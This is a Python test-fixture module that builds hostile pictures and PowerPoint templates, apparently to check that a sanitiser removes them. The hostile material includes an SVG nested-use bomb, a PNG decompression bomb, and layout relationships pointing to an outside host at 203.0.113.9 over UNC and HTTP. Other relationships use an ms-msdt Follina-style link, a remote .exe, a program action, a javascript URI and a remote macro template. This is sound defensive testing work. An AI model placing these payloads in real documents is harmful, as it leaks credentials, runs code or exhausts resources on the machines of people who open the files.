"""Pictures and slide templates as an attacker would send them."""

import struct
import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from edited_decks import edited

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20">{}</svg>'
)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def nested_use(depth: int = 30, times: int = 10) -> str:
    """A drawing of 10 to the power of 30 rectangles in two kilobytes."""
    groups = "".join(
        f'<g id="a{level}">' + f'<use xlink:href="#a{level - 1}"/>' * times + "</g>" for level in range(1, depth)
    )
    return SVG.format(f'<defs><rect id="a0" width="1" height="1"/>{groups}</defs><use xlink:href="#a{depth - 1}"/>')


def png(wide: int, high: int, *, depth: int = 8, colours: int = 0) -> bytes:
    """A black picture of any size in a small file."""
    row = b"\0" + bytes(wide * depth * {0: 1, 2: 3, 6: 4}[colours] // 8)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(high)) + packer.flush()
    header = struct.pack(">IIBBBBB", wide, high, depth, colours, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in chunks
    )


def repacked(changes: Mapping[str, bytes | None], base: bytes | None = None) -> bytes:
    """A slide template with parts changed, added, or taken out (None)."""
    target = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(base or edited())) as old,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        names = old.namelist()
        for name in names:
            data = changes.get(name, old.read(name))
            if data is not None:
                new.writestr(name, data)
        for name, data in changes.items():
            if name not in names and data is not None:
                new.writestr(name, data)
    return target.getvalue()


def part(name: str, base: bytes | None = None) -> bytes:
    """A part of the template as it is."""
    with zipfile.ZipFile(BytesIO(base or edited())) as package:
        return package.read(name)


def related(source: str, *rows: tuple[str, str, str, bool]) -> tuple[str, bytes]:
    """The relationships of a part with further ones: key, last word or whole of the type, target, outside."""
    folder, _, base = source.rpartition("/")
    name = f"{folder}/_rels/{base}.rels" if folder else "_rels/.rels"
    more = "".join(
        f'<Relationship Id="{key}" Type="{kind if ":" in kind else f"{RELS}/{kind}"}" Target="{target}"'
        + (' TargetMode="External"/>' if outside else "/>")
        for key, kind, target, outside in rows
    )
    return name, part(name).replace(b"</Relationships>", more.encode() + b"</Relationships>")


LAYOUT = "ppt/slideLayouts/slideLayout3.xml"
MASTER = "ppt/slideMasters/slideMaster1.xml"
PRESENTATION = "ppt/presentation.xml"

_XMLNS = (
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
    f'xmlns:r="{RELS}"'
)


def linked_picture(*attributes: str) -> bytes:
    """A picture on a slide, drawn from wherever the attributes say."""
    shape = (
        f'<p:pic {_XMLNS}><p:nvPicPr><p:cNvPr id="901" name="x"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        f"<p:blipFill><a:blip {' '.join(attributes)}/><a:stretch><a:fillRect/></a:stretch></p:blipFill>"
        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99" cy="99"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )
    return shape.encode()


def with_shape(source: str, shape: bytes, base: bytes | None = None) -> bytes:
    """A master or layout with a further shape."""
    return part(source, base).replace(b"</p:spTree>", shape + b"</p:spTree>", 1)


def clicked(attributes: str) -> bytes:
    """A shape on which one can click."""
    shape = (
        f'<p:sp {_XMLNS}><p:nvSpPr><p:cNvPr id="902" name="button"><a:hlinkClick {attributes}/></p:cNvPr><p:cNvSpPr/>'
        '<p:nvPr userDrawn="1"/></p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="99" cy="99"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>'
    )
    return shape.encode()


def hostile_deck() -> bytes:
    """A slide template with one of everything that is to stay behind."""
    layout = with_shape(LAYOUT, linked_picture('r:link="h1"') + linked_picture('r:link="h2"') + clicked('r:id="h3"'))
    layout = layout.replace(
        b"</p:spTree>",
        clicked('r:id="" action="ppaction://program"')
        + clicked('r:id="h4" action="ppaction://hlinkfile"')
        + clicked('r:id="h5"')
        + clicked('r:id="h10"')
        + b"</p:spTree>",
        1,
    )
    types = part("[Content_Types].xml").replace(
        b"</Types>",
        b'<Default Extension="png" ContentType="image/png"/>'
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        b'<Override PartName="/customXml/item1.xml" ContentType="application/xml"/></Types>',
    )
    layout_rels = related(
        LAYOUT,
        ("h1", "image", r"file://\\203.0.113.9\share\a.png", True),
        ("h2", "image", "http://203.0.113.9/a.png", True),
        ("h3", "hyperlink", "ms-msdt:/id PCWDiagnostic", True),
        ("h4", "hyperlink", r"\\203.0.113.9\share\a.exe", True),
        ("h5", "hyperlink", "javascript:alert(1)", True),
        ("h6", "oleObject", "../embeddings/oleObject1.bin", False),
        ("h7", "attachedTemplate", "http://203.0.113.9/a.potm", True),
        ("h8", "video", "file:///c:/a.mp4", True),
        ("h9", "http://schemas.evil.example/relationships/image", "../media/image1.png", False),
        ("h10", "hyperlink", "https://www.example.org/style", True),
    )
    main_rels = related(
        PRESENTATION,
        ("m1", "customXml", "../customXml/item1.xml", False),
        ("m2", "tags", "tags/tag1.xml", False),
        ("m3", "printerSettings", "printerSettings/printerSettings1.bin", False),
    )
    return repacked(
        {
            "[Content_Types].xml": types, LAYOUT: layout, **dict([layout_rels, main_rels]),
            "ppt/media/image1.png": png(4, 4), "ppt/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99),
            "customXml/item1.xml": b"<secret/>", "ppt/tags/tag1.xml": b"<secret/>",
            "ppt/printerSettings/printerSettings1.bin": b"secret", "ppt/unrelated.exe": b"MZ",
        }
    )  # fmt: skip
